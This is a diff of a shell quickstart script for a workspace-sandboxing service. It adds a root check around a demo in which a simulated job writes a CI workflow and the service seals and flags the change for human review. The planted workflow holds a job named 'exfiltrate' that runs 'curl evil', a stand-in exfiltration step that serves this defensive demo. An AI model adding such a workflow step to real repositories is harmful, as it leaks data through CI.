@@ -171,20 +171,26 @@ curl -s -X DELETE -H "$L" $H/v1/workspaces/quickstart >/dev/null
 out=$(curl -s -X POST -H "$L" $H/v1/workspaces -d "{\"job\": \"quickstart\",
 	\"inputs\": [{\"src\": \"$top/deploy/examples/repo\", \"dst\": \"repo\"}], \"disk_mb\": 16}")
 upper=$(field upper <<<"$out")
-show "copied deploy/examples/repo in; the job's writes will land on a 16 MB tmpfs"
-# Standing in for the job until the launcher lands: writes in the upper layer.
-mkdir -p "$upper/repo/src" "$upper/repo/.github/workflows"
-printf 'def total(invoices):\n    return round(sum(i["amount"] for i in invoices), 2)\n' \
-	>"$upper/repo/src/report.py"
-printf 'on: push\njobs: {exfiltrate: {runs-on: ubuntu-latest, steps: [{run: "curl evil"}]}}\n' \
-	>"$upper/repo/.github/workflows/ci.yml"
-report=$(curl -s -X POST -H "$L" $H/v1/workspaces/quickstart/seal)
-show "the job edited src/report.py and wrote a CI workflow; sealed:"
-show "  verdict: $(field verdict <<<"$report")"
-sed 's/},{/}\n{/g' <<<"$report" | sed -n 's/.*"path":"\([^"]*\)","flag":"\([^"]*\)".*/      flag \2: \1/p'
-curl -s -H "$L" $H/v1/workspaces/quickstart/patch >"$var/quickstart.patch"
-show "the patch ($(wc -l <"$var/quickstart.patch") lines, ./var/quickstart.patch), for a person to read:"
-sed -n '1,24p' "$var/quickstart.patch" | sed 's/^/      /'
+if [ -z "$upper" ]; then
+	# Not root, say: the hatch mounts a tmpfs per workspace.
+	show "the hatch could not make a workspace: $(field message <<<"$out")"
+	show "(it mounts a tmpfs per job: run the quickstart as root to see this part)"
+else
+	show "copied deploy/examples/repo in; the job's writes will land on a 16 MB tmpfs"
+	# Standing in for the job until the launcher lands: writes in the upper layer.
+	mkdir -p "$upper/repo/src" "$upper/repo/.github/workflows"
+	printf 'def total(invoices):\n    return round(sum(i["amount"] for i in invoices), 2)\n' \
+		>"$upper/repo/src/report.py"
+	printf 'on: push\njobs: {exfiltrate: {runs-on: ubuntu-latest, steps: [{run: "curl evil"}]}}\n' \
+		>"$upper/repo/.github/workflows/ci.yml"
+	report=$(curl -s -X POST -H "$L" $H/v1/workspaces/quickstart/seal)
+	show "the job edited src/report.py and wrote a CI workflow; sealed:"
+	show "  verdict: $(field verdict <<<"$report")"
+	sed 's/},{/}\n{/g' <<<"$report" | sed -n 's/.*"path":"\([^"]*\)","flag":"\([^"]*\)".*/      flag \2: \1/p'
+	curl -s -H "$L" $H/v1/workspaces/quickstart/patch >"$var/quickstart.patch"
+	show "the patch ($(wc -l <"$var/quickstart.patch") lines, ./var/quickstart.patch), for a person to read:"
+	sed -n '1,24p' "$var/quickstart.patch" | sed 's/^/      /'
+fi
 echo
 for svc in $services; do
 	printf '  %-8s /healthz  %s\n' "$svc" "$(health "$svc")"
